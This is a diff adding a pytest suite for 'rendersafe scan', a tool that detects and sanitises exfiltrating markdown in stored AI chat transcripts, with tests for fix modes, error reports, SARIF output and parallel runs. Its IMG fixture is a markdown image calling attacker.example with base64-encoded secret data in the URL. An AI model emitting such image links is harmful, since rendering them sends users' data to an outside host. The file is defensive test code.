@@ -1,0 +1,254 @@
+"""`rendersafe scan` over stored transcripts: every shape, fix mode, bad input, parallel
+ranges, reports (JSON, SARIF), audit records, and the same scan on Dask."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import shutil
+import tracemalloc
+from pathlib import Path
+
+import pytest
+
+from rendersafe import sanitize
+from rendersafe.cli import run
+from rendersafe.scan import ScanOptions, ScanReport, scan, tasks_for
+from rendersafe.scan import inputs as scan_inputs
+
+ROOT = Path(__file__).parent.parent
+TRANSCRIPTS = ROOT / "fixtures" / "transcripts"
+BAD = Path(__file__).parent / "data" / "scan"
+IMG = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"
+
+
+def cli(*args: str, stdin: str = "") -> tuple[int, str, str]:
+    out, err = io.StringIO(), io.StringIO()
+    code = run(list(args), stdin=io.StringIO(stdin), stdout=out, stderr=err)
+    return code, out.getvalue(), err.getvalue()
+
+
+def labels() -> dict[str, str]:
+    """Conversation id -> honest or attack, from the OpenAI file."""
+    rows = [json.loads(x) for x in (TRANSCRIPTS / "openai-chat.jsonl").read_text().splitlines()]
+    return {row["id"].split("-")[1]: row["label"] for row in rows}
+
+
+def test_every_attack_flagged_and_no_honest_one() -> None:
+    report = scan([str(TRANSCRIPTS)], ScanOptions())
+    assert report.errors == []
+    assert report.summary.files == 5
+    flagged = {(row.path, row.record_id) for row in report.findings}
+    label = labels()
+    for path, record in flagged:
+        number = record.split("-")[-1] if "-" in record else None
+        if path.endswith("reply.md"):
+            continue
+        assert number is not None, (path, record)
+        assert label[number] != "honest", (path, record)
+    attacks = {n for n, kind in label.items() if kind != "honest"}
+    openai = {r.split("-")[1] for p, r in flagged if p.endswith("openai-chat.jsonl")}
+    assert openai == attacks
+    assert {row.role for row in report.findings} == {"assistant"}
+
+
+def test_main_job_command() -> None:
+    code, out, err = cli("scan", str(TRANSCRIPTS))
+    assert code == 1
+    assert out.startswith("files 5 (0 with errors), records 66")
+    assert "by reason" in out
+    assert err == ""  # no progress bar when stderr is not a terminal
+
+
+def test_fix_mirrors_the_tree_and_changes_only_the_text(tmp_path: Path) -> None:
+    fixed = tmp_path / "cleaned"
+    report = scan([str(TRANSCRIPTS)], ScanOptions(fix_dir=fixed))
+    names = sorted(p.name for p in TRANSCRIPTS.iterdir())
+    assert sorted(p.name for p in fixed.iterdir()) == names  # no temporary files left
+    assert gzip.decompress((fixed / "replies.jsonl.gz").read_bytes())  # still gzip
+    before = (TRANSCRIPTS / "openai-chat.jsonl").read_text().splitlines()
+    after = (fixed / "openai-chat.jsonl").read_text().splitlines()
+    changed = {row.record_id for row in report.findings if row.path.endswith("openai-chat.jsonl")}
+    for old, new in zip(before, after, strict=True):
+        record = json.loads(old)
+        if record["id"] not in changed:
+            assert new == old  # byte for byte
+            continue
+        cleaned = json.loads(new)
+        for m_old, m_new in zip(record["messages"], cleaned["messages"], strict=True):
+            expected = (
+                sanitize(m_old["content"]) if m_old["role"] == "assistant" else m_old["content"]
+            )
+            assert m_new == {**m_old, "content": expected}
+        assert {k: v for k, v in cleaned.items() if k != "messages"} == {
+            k: v for k, v in record.items() if k != "messages"
+        }
+    again = scan([str(fixed)], ScanOptions())
+    assert again.summary.findings == 0  # the fixed copies are clean
+
+
+def test_in_place(tmp_path: Path) -> None:
+    work = tmp_path / "logs"
+    shutil.copytree(TRANSCRIPTS, work)
+    honest = work / "honest.jsonl"
+    honest.write_text(json.dumps({"reply": "Fine."}) + "\n")
+    stamp = honest.stat().st_mtime_ns
+    code, _, _ = cli("scan", str(work), "--in-place", "--quiet")
+    assert code == 1
+    assert scan([str(work)], ScanOptions()).summary.findings == 0
+    assert honest.stat().st_mtime_ns == stamp  # nothing to change: not rewritten
+
+
+def test_fix_never_overwrites_the_input(tmp_path: Path) -> None:
+    work = tmp_path / "logs"
+    shutil.copytree(TRANSCRIPTS, work)
+    code, _, err = cli("scan", str(work), "--fix", str(work))
+    assert code == 2
+    assert "would overwrite" in err
+    assert cli("scan", str(work), "--fix", str(tmp_path / "x"), "--in-place")[0] == 2
+
+
+def test_bad_input_reported_with_file_and_line_and_the_rest_scanned(tmp_path: Path) -> None:
+    report_path = tmp_path / "report.json"
+    code, _out, err = cli("scan", str(BAD), str(TRANSCRIPTS / "reply.md"), "--json",
+                          str(report_path), "--fix", str(tmp_path / "fixed"))  # fmt: skip
+    assert code == 1
+    report = ScanReport.model_validate_json(report_path.read_text())
+    errors = {(Path(e.path).name, e.line): e.message for e in report.errors}
+    bad = str(BAD / "bad.jsonl")
+    assert errors[("bad.jsonl", 2)].startswith("not JSON")
+    assert errors[("bad.jsonl", 4)].startswith("not UTF-8 (byte 26")
+    assert "unknown shape" in errors[("bad.jsonl", 5)]
+    assert any(name == "truncated.jsonl.gz" and "gzip" in m for (name, _), m in errors.items())
+    assert f"{bad}:2: not JSON" in err
+    lines_found = sorted(row.line for row in report.findings if row.path == bad)
+    assert lines_found == [3, 6]  # the lines around the bad ones were scanned
+    assert report.summary.records_unreadable == 3
+    assert any(row.path.endswith("reply.md") for row in report.findings)  # the batch went on
+    fixed = (tmp_path / "fixed" / "bad.jsonl").read_bytes().splitlines()
+    assert fixed[3] == (BAD / "bad.jsonl").read_bytes().splitlines()[3]  # copied unchanged
+    assert not (tmp_path / "fixed" / "truncated.jsonl.gz").exists()
+
+
+def test_nothing_readable_exits_2(tmp_path: Path) -> None:
+    code, _, err = cli("scan", str(tmp_path / "missing"))
+    assert code == 2
+    assert "no such file or directory" in err
+
+
+def test_clean_input_exits_0(tmp_path: Path) -> None:
+    (tmp_path / "ok.jsonl").write_text(
+        json.dumps({"reply": "All [good](https://docs.python.org/3/)."}) + "\n"
+    )
+    assert cli("scan", str(tmp_path))[0] == 0
+
+
+def test_stdin(tmp_path: Path) -> None:
+    lines = "".join(json.dumps({"reply": f"r{i} {IMG}"}) + "\n" for i in range(3))
+    code, out, _ = cli("scan", "-", stdin=lines)
+    assert code == 1
+    assert "findings 3" in out
+
+
+def test_roles_and_json_paths(tmp_path: Path) -> None:
+    turns = [{"role": "user", "content": IMG}, {"role": "assistant", "content": "ok"}]
+    record = {"messages": turns, "meta": {"answer": IMG}}
+    path = tmp_path / "r.jsonl"
+    path.write_text(json.dumps(record) + "\n")
+    assert scan([str(path)], ScanOptions()).summary.findings == 0
+    assert scan([str(path)], ScanOptions(roles=None)).summary.findings == 1
+    assert scan([str(path)], ScanOptions(roles=frozenset({"user"}))).summary.findings == 1
+    by_path = scan([str(path)], ScanOptions(json_paths=("meta.answer",)))
+    assert by_path.summary.findings == 1
+
+
+def test_json_report_schema_and_sarif(tmp_path: Path) -> None:
+    cli("scan", str(TRANSCRIPTS), "--json", str(tmp_path / "r.json"), "--sarif",
+        str(tmp_path / "r.sarif"), "--quiet")  # fmt: skip
+    report = json.loads((tmp_path / "r.json").read_text())
+    assert set(report) == {"version", "rendersafe_version", "summary", "findings", "errors"}
+    assert set(report["findings"][0]) == {"path", "line", "record_id", "role", "construct",
+                                          "action", "reasons", "host"}  # fmt: skip
+    documented = json.loads((ROOT / "docs" / "scan-report.schema.json").read_text())
+    assert documented == ScanReport.model_json_schema()
+    log = json.loads((tmp_path / "r.sarif").read_text())
+    assert log["version"] == "2.1.0"
+    results = log["runs"][0]["results"]
+    rules = {rule["id"] for rule in log["runs"][0]["tool"]["driver"]["rules"]}
+    assert len(results) == report["summary"]["findings"]
+    assert all(r["ruleId"] in rules for r in results)
+    assert results[0]["locations"][0]["physicalLocation"]["region"]["startLine"] >= 1
+
+
+def test_audit_records_from_a_batch(tmp_path: Path) -> None:
+    audit = tmp_path / "audit.jsonl"
+    report = scan([str(TRANSCRIPTS)], ScanOptions(audit_path=audit), jobs=2)
+    records = [json.loads(x) for x in audit.read_text().splitlines()]
+    assert len(records) == report.summary.findings
+    assert {r["source"]["kind"] for r in records} == {"batch"}
+    first = next(r for r in records if r["source"]["file"].endswith("openai-chat.jsonl"))
+    assert first["source"]["line"] >= 1
+    assert first["source"]["record_id"].startswith("conv-")
+    assert "SGVsbG8" not in audit.read_text()
+    hashes = {r["url_hmac"] for r in records}
+    assert None not in hashes
+
+
+def big_jsonl(path: Path, records: int) -> None:
+    with path.open("w") as out:
+        for i in range(records):
+            text = f"Reply {i}: " + ("plain words " * 20) + (IMG if i % 50 == 0 else "")
+            out.write(json.dumps({"id": f"n{i}", "reply": text}) + "\n")
+
+
+def test_ranges_give_the_same_result_as_one_pass(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = tmp_path / "big.jsonl"
+    big_jsonl(path, 1500)
+    monkeypatch.setattr(scan_inputs, "_PART_BYTES", 16 * 1024)
+    tasks, _ = tasks_for([str(path)], ScanOptions(), jobs=2)
+    assert len(tasks) == 8
+    one = scan([str(path)], ScanOptions(fix_dir=tmp_path / "one"), jobs=1)
+    two = scan([str(path)], ScanOptions(fix_dir=tmp_path / "two"), jobs=2)
+    assert [r.model_dump() for r in two.findings] == [r.model_dump() for r in one.findings]
+    assert [r.line for r in one.findings] == list(range(1, 1501, 50))
+    assert (tmp_path / "two" / "big.jsonl").read_bytes() == (
+        tmp_path / "one" / "big.jsonl"
+    ).read_bytes()
+    assert two.summary.records == 1500
+
+
+def test_memory_does_not_grow_with_the_file(tmp_path: Path) -> None:
+    def peak(records: int) -> int:
+        path = tmp_path / f"m{records}.jsonl"
+        with path.open("w") as out:  # user turns are read, not sanitised: fast to scan
+            turns = [{"role": "user", "content": "x" * 500}, {"role": "assistant", "content": "ok"}]
+            line = json.dumps({"messages": turns}) + "\n"
+            for _ in range(records):
+                out.write(line)
+        tracemalloc.start()
+        scan([str(path)], ScanOptions())
+        _, top = tracemalloc.get_traced_memory()
+        tracemalloc.stop()
+        return top
+
+    small, large = peak(2_000), peak(16_000)  # 1 MB and 8.5 MB
+    assert large < small * 1.5 + 200_000
+
+
+def test_dask_gives_the_same_findings(tmp_path: Path) -> None:
+    distributed = pytest.importorskip("distributed")
+    from rendersafe.scan.bags import scan_with_dask  # noqa: PLC0415
+
+    local = scan([str(TRANSCRIPTS), str(BAD)], ScanOptions(fix_dir=tmp_path / "l"))
+    cluster = distributed.LocalCluster(n_workers=2, threads_per_worker=1, processes=True,
+                                       dashboard_address=None, host="127.0.0.1")  # fmt: skip
+    with cluster, distributed.Client(cluster):
+        remote = scan_with_dask([str(TRANSCRIPTS), str(BAD)], ScanOptions(fix_dir=tmp_path / "f"))
+    key = lambda r: r.model_dump_json()  # noqa: E731
+    assert sorted(map(key, remote.findings)) == sorted(map(key, local.findings))
+    assert sorted(map(key, remote.errors)) == sorted(map(key, local.errors))
+    assert remote.summary == local.summary
+    assert (tmp_path / "f" / "openai-chat.jsonl").exists()
